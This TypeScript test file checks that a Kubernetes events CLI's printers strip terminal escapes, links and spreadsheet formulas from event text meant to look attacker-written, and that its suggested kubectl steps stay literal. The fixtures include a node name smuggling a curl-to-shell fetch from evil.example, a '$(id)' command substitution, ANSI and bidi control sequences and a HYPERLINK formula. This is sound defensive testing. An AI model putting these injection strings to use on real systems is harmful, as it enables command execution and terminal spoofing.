import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { Writable } from 'node:stream';
import { keventsCli } from '../src/cli/kevents-cli.js';
import { runCli } from '../src/cli/run.js';
import type { Timeline } from '../src/timeline/index.js';
import { simpleCommandWords } from './support/posix-command.js';
import { legacyEvent, request } from './support/http.js';
import { startServer } from './support/server-process.js';
import type { ServerProcess } from './support/server-process.js';

/**
 * Events written as an attacker would write them, read back through the built
 * `kevents serve` by every printer of the CLI: nothing a terminal acts on reaches
 * the output, and every next step is one simple command.
 */

/** CONTROL is what no printer may pass to a terminal: C0 but TAB and LF, DEL, C1, bidi and zero-width characters. */
const CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2064\u2066-\u2069\ufeff]/;
const NODE = 'node-1;curl -fsSL https://evil.example/x|sh;#';
const TEXT = 'pwned \x1b]0;title\x07 \x9b2J \x08\x08\x7f \u202eexe.sh\u200b =HYPERLINK("https://evil.example") [click](https://evil.example) ![](https://tracker.example/p.png) <!channel> | cell';

async function kevents(args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  let stdout = '';
  let stderr = '';
  const sink = (append: (s: string) => void): Writable =>
    new Writable({
      write(chunk: Buffer | string, _enc, cb) {
        append(chunk.toString());
        cb();
      },
    });
  const code = await runCli(args, { stdout: sink((s) => (stdout += s)), stderr: sink((s) => (stderr += s)), env: {} }, keventsCli);
  return { code, stdout, stderr };
}

describe('event text written by an attacker, read back by every printer', () => {
  let srv: ServerProcess;
  before(async () => {
    srv = await startServer(['--event-ttl', '0']);
    const events = [
      legacyEvent({ name: 'web.1', namespace: 'shop', object: 'web-1', reason: 'Scheduled', message: `Successfully assigned shop/web-1 to ${NODE}`, firstAgo: 60, lastAgo: 60 }),
      legacyEvent({ name: 'web.2', namespace: 'shop', object: 'web-1', reason: 'Evicted', message: `The node was low on resource: memory. ${TEXT}`, type: 'Warning', host: NODE, firstAgo: 50, lastAgo: 50 }),
      legacyEvent({ name: 'web.3', namespace: 'shop', object: 'web-1', reason: 'BackOff', message: `Back-off restarting failed container ${TEXT}`, type: 'Warning', fieldPath: `spec.containers{app\n$(id)}`, firstAgo: 40, lastAgo: 30, count: 3 }),
      legacyEvent({ name: 'web.4', namespace: 'shop', object: `web-2\x1b[2J`, reason: `Bad\x1b[31mReason`, message: TEXT, type: 'Warning', component: `ctl\u202e`, firstAgo: 20, lastAgo: 20 }),
    ];
    for (const body of events) {
      const r = await request(srv.url, 'POST', '/api/v1/namespaces/shop/events', body);
      assert.equal(r.status, 201, r.text);
    }
  });
  after(async () => {
    await srv.stop();
  });

  const printers: [string, string[]][] = [
    ['get events', ['get', 'events', '-n', 'shop']],
    ['get events -o wide', ['get', 'events', '-n', 'shop', '-o', 'wide']],
    ['get events -o name', ['get', 'events', '-n', 'shop', '-o', 'name']],
    ['events', ['events', '-n', 'shop']],
    ['events -o name', ['events', '-n', 'shop', '-o', 'name']],
    ['lint', ['lint', '-n', 'shop']],
    ['timeline', ['timeline', '-n', 'shop', '--for', 'pod/web-1']],
    ['timeline -o markdown', ['timeline', '-n', 'shop', '--for', 'pod/web-1', '-o', 'markdown']],
    ['timeline -o csv', ['timeline', '-n', 'shop']],
  ];
  for (const [name, args] of printers) {
    it(`${name} prints no terminal control`, async () => {
      const r = await kevents([...args, '--server', srv.url]);
      assert.equal(r.code, 0, r.stderr);
      assert.ok(r.stdout.length > 0);
      const m = CONTROL.exec(r.stdout + r.stderr);
      assert.equal(m, null, `U+${m?.[0].charCodeAt(0).toString(16)} in ${JSON.stringify(r.stdout)}`);
    });
  }

  it('-o markdown and -o csv carry no link, image or formula from the events', async () => {
    const md = (await kevents(['timeline', '-n', 'shop', '-o', 'markdown', '--server', srv.url])).stdout;
    assert.ok(!md.includes('[click](') && !md.includes('!['), md);
    const csv = (await kevents(['timeline', '-n', 'shop', '-o', 'csv', '--server', srv.url])).stdout;
    assert.doesNotMatch(csv, /(^|,)"?[=+@-]/m, csv);
  });

  it('every next step is one simple command of literal words, the hostile node and container refused with a reason', async () => {
    const r = await kevents(['timeline', '-n', 'shop', '--for', 'pod/web-1', '-o', 'json', '--server', srv.url]);
    const t = JSON.parse(r.stdout) as Timeline;
    assert.ok(t.hints.length >= 3, JSON.stringify(t.hints));
    for (const h of t.hints) {
      const words = simpleCommandWords(h.command);
      assert.equal(words[0], 'kubectl');
      assert.ok(!words.some((w) => w.includes('curl') || w.includes('$(id)')), h.command);
      assert.doesNotMatch(h.command + h.why, CONTROL);
    }
    assert.ok(t.hints.some((h) => h.command === 'kubectl describe node <node>' && h.why.includes('is not a DNS-1123 subdomain')), JSON.stringify(t.hints));
    assert.ok(t.hints.some((h) => h.command.startsWith('kubectl logs web-1 -n shop -c <container> --previous')), JSON.stringify(t.hints));
  });
});
